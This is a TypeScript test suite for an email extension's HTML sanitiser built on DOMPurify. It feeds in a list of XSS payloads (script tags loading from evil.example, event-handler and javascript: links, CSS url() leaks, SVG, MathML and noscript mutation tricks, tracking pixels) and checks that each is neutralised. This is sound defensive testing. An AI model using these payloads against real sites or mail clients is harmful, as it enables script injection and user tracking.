import * as assert from 'node:assert/strict';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { loadDocument } from '../../src/extension/panels/documents/documents';
import {
	BLOCKED_IMAGE_TEXT,
	cleanStyle,
	frameDocument,
	safeTheme,
	FRAME_CSP,
	sanitizeHtml,
} from '../../src/webview/common/sanitizePolicy';

// The webview runs this policy with the browser's DOMPurify; here the same module runs over jsdom.
const purify = createDOMPurify(
	new JSDOM('<!DOCTYPE html><body></body>').window as unknown as Parameters<typeof createDOMPurify>[0],
);
const sanitize = (html: string, limit?: number) => sanitizeHtml(purify, html, limit);

/** Parses sanitised output so assertions look at the DOM, not at string spellings. */
function dom(html: string): Document {
	return new JSDOM(`<!DOCTYPE html><body>${html}</body>`).window.document;
}

function allAttributes(doc: Document): { element: string; name: string; value: string }[] {
	const out: { element: string; name: string; value: string }[] = [];
	for (const el of Array.from(doc.body.querySelectorAll('*'))) {
		for (const a of Array.from(el.attributes)) out.push({ element: el.localName, name: a.name, value: a.value });
	}
	return out;
}

const HOSTILE: Record<string, string> = {
	script: '<p>hi</p><script>document.title="pwned"</script>',
	scriptUpper: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	onerror: '<img src=x onerror="parent.postMessage(1,\'*\')">',
	onload: '<body onload=alert(1)><div onclick="alert(1)" onmouseover=alert(1)>x</div>',
	javascriptLink: '<a href="javascript:alert(1)">click</a>',
	javascriptEncoded: '<a href="jav&#x09;ascript:alert(1)">click</a>',
	dataLink: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
	styleUrl: '<div style="background:url(https://evil.example/t.png);color:red">x</div>',
	styleEscaped: '<div style="background:u\\72l(https://evil.example/t.png)">x</div>',
	styleElement:
		'<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style><p>t</p>',
	svgScript: '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>',
	svgForeign: '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
	iframe: '<iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
	form: '<form action="https://evil.example"><input name=a><button formaction="https://evil.example">go</button></form>',
	meta: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/s.css">',
	remoteImage: '<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/a.png 2x">',
	protocolRelative: '<img src="//tracker.example/p.gif">',
	malformed: '<div><p>unclosed <b>bold <a href="https://ok.example/">link<img src=x:y>',
	mathml: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
	table: '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/c.png">c</td></tr></table>',
	video: '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
	template: '<template><script>alert(1)</script></template>',
	noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
};

describe('email HTML sanitising policy (DOMPurify over jsdom)', function () {
	for (const [name, html] of Object.entries(HOSTILE)) {
		it(`neutralises hostile input: ${name}`, function () {
			const safe = sanitize(html);
			const doc = dom(safe.html);
			assert.equal(
				doc.querySelectorAll(
					'script,style,iframe,object,embed,form,input,button,svg,math,link,meta,base,video,source,template,a,area',
				).length,
				0,
				safe.html,
			);
			for (const attribute of allAttributes(doc)) {
				assert.ok(!/^on/i.test(attribute.name), `event handler ${attribute.name} kept: ${safe.html}`);
				assert.ok(
					!['href', 'action', 'formaction', 'background', 'srcset', 'poster', 'xlink:href'].includes(
						attribute.name,
					),
					`${attribute.name} kept: ${safe.html}`,
				);
				assert.ok(
					!/url\s*\(|javascript:|evil\.example|tracker\.example/i.test(attribute.value),
					`${attribute.name}=${attribute.value} kept`,
				);
				if (attribute.name === 'src') assert.match(attribute.value, /^data:image\//);
			}
			assert.ok(!/evil\.example|tracker\.example/.test(doc.body.innerHTML.replace(/>[^<]*</g, '><')), safe.html);
		});
	}

	it('rewrites links into non-navigating elements and lists only http/https/mailto targets', function () {
		const safe = sanitize(
			'<a href="https://jobs.example/apply?x=1&amp;y=2">Apply</a> <a href="mailto:hr@example.com">Mail</a> <a href="javascript:alert(1)">Bad</a> <a href="https://jobs.example/apply?x=1&amp;y=2">Again</a> <a href="ftp://files.example/">FTP</a>',
		);
		assert.deepEqual(safe.links, ['https://jobs.example/apply?x=1&y=2', 'mailto:hr@example.com']);
		const doc = dom(safe.html);
		assert.equal(doc.querySelectorAll('a').length, 0);
		const spans = Array.from(doc.querySelectorAll('span.mp-link'));
		assert.equal(spans.length, 5);
		assert.equal(spans[0].textContent, 'Apply[1]');
		assert.equal(spans[3].textContent, 'Again[1]');
		assert.equal(spans[2].textContent, 'Bad');
	});

	it('replaces remote images with a "remote image blocked" element and keeps inline data: pictures', function () {
		const png = 'data:image/png;base64,iVBORw0KGgo=';
		const safe = sanitize(
			`<img src="https://tracker.example/p.gif"><img src="${png}" alt="logo"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
		);
		assert.equal(safe.blockedImages, 2);
		const doc = dom(safe.html);
		assert.deepEqual(
			Array.from(doc.querySelectorAll('img')).map((i) => i.getAttribute('src')),
			[png],
		);
		const blocked = Array.from(doc.querySelectorAll('.mp-blocked-image'));
		assert.equal(blocked.length, 2);
		assert.equal(blocked[0].getAttribute('aria-label'), BLOCKED_IMAGE_TEXT);
	});

	it('keeps harmless formatting and style declarations', function () {
		const safe = sanitize(
			'<p style="color: red; font-weight: bold">Hello <b>there</b></p><ul><li>one</li></ul><table><tr><td>c</td></tr></table>',
		);
		const doc = dom(safe.html);
		assert.equal(doc.querySelector('p')?.getAttribute('style'), 'color: red; font-weight: bold');
		assert.equal(doc.querySelector('b')?.textContent, 'there');
		assert.equal(doc.querySelectorAll('li').length, 1);
		assert.equal(doc.querySelectorAll('td').length, 1);
	});

	it('cleans style attributes declaration by declaration', function () {
		assert.equal(cleanStyle('color:red; background-image: URL( "https://x" ); margin:0'), 'color:red; margin:0');
		assert.equal(cleanStyle('width:1px/* */;background:u\\72l(x)'), 'width:1px');
		assert.equal(cleanStyle('behavior: url(x.htc); -moz-binding: url(x)'), '');
		assert.equal(cleanStyle('position: fixed; top: 0'), 'top: 0');
	});

	it('caps a 5 MB body: the host sends a prefix and the sanitiser only ever sees a bounded input', async function () {
		this.timeout(60_000);
		const paragraph = '<p>Lorem ipsum <b>dolor</b> sit amet <img src="https://tracker.example/p.gif"></p>\n';
		const body = paragraph.repeat(Math.ceil((5 * 1024 * 1024) / paragraph.length));
		assert.ok(body.length >= 5 * 1024 * 1024);
		const loaded = await loadDocument('emailBody', { Document: body });
		assert.equal(loaded.view.kind, 'html');
		if (loaded.view.kind !== 'html') return;
		assert.equal(loaded.view.html.truncated, true);
		assert.equal(loaded.view.html.totalChars, body.length);
		assert.ok(loaded.view.html.html.length <= 256 * 1024);
		const safe = sanitize(body);
		assert.equal(safe.truncated, true);
		assert.ok(safe.html.length < 512 * 1024, `sanitised ${safe.html.length} chars`);
		assert.ok(!/tracker\.example/.test(safe.html));
	});

	it('builds a frame document whose CSP forbids every load except inline data: images', function () {
		const html = frameDocument('<p>x</p>');
		const doc = new JSDOM(html).window.document;
		const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content');
		assert.equal(csp, FRAME_CSP);
		assert.match(FRAME_CSP, /default-src 'none'/);
		assert.match(FRAME_CSP, /img-src data:(;|$)/);
		assert.ok(!/script-src/.test(FRAME_CSP));
		assert.equal(doc.body.innerHTML, '<p>x</p>');
	});

	it('paints the frame in the theme, taking only plain colour and font values from it', function () {
		const themed = frameDocument('<p style="color:#000">x</p>', {
			foreground: '#cccccc',
			background: 'rgb(31, 31, 31)',
			link: '#4daafc',
			fontFamily: '"Segoe UI", sans-serif',
			fontSize: '13px',
		});
		assert.match(
			themed,
			/body\{font-family:"Segoe UI", sans-serif;font-size:13px;margin:8px;color:#cccccc;background:rgb\(31, 31, 31\)/,
		);
		assert.match(
			themed,
			/body \*\{color:inherit!important;background-color:transparent!important/,
			'the theme wins over the document',
		);
		const hostile = frameDocument('<p>x</p>', {
			foreground: 'red;}</style><script>alert(1)</script>',
			background: 'url(https://evil.example/x.png)',
			fontFamily: 'x}body{background:url(https://evil.example)',
			fontSize: '13px;x',
		});
		assert.ok(!/script|evil|url\(/.test(hostile), hostile);
		assert.match(hostile, /color:#1e1e1e;background:#ffffff/, 'anything but a plain value falls back');
		const original = frameDocument('<p>x</p>');
		assert.ok(!/!important/.test(original), "the original colours are the document's own");
		assert.equal(safeTheme({ link: 'rgba(1, 2, 3, 0.5)' }).link, 'rgba(1, 2, 3, 0.5)');
	});

	it('hands a hostile email body to the webview as a capped HTML prefix, never as text with markup lost', async function () {
		const body =
			'<html><body><h1>Hi</h1><script>document.title="owned"</script><a href="https://jobs.example/">jobs</a></body></html>';
		const loaded = await loadDocument('emailBody', { Document: body });
		assert.equal(loaded.view.kind, 'html');
		if (loaded.view.kind !== 'html') return;
		assert.deepEqual(loaded.view.html, { html: body, truncated: false, totalChars: body.length });
		const safe = sanitize(loaded.view.html.html);
		assert.ok(!/script|owned/.test(safe.html));
		assert.deepEqual(safe.links, ['https://jobs.example/']);
	});

	it('shows a plain-text body as text, never as HTML', async function () {
		const loaded = await loadDocument('emailBody', { Document: 'Dear team, 1 < 2 and <script> is just text here' });
		assert.equal(loaded.view.kind, 'text');
		if (loaded.view.kind === 'text') {
			assert.equal(loaded.view.slice.text, 'Dear team, 1 < 2 and <script> is just text here');
		}
	});
	it("carries the panel's style nonce (a srcdoc frame inherits the panel's CSP), and only a plain one", function () {
		assert.match(frameDocument('<p>x</p>', undefined, 'AbC123xyz_-+/='), /<style nonce="AbC123xyz_-\+\/=">/);
		assert.match(frameDocument('<p>x</p>'), /<style>/);
		const hostile = frameDocument('<p>x</p>', undefined, 'abcdefgh" onload="alert(1)');
		assert.match(hostile, /<style>/);
		assert.doesNotMatch(hostile, /onload/);
	});
});
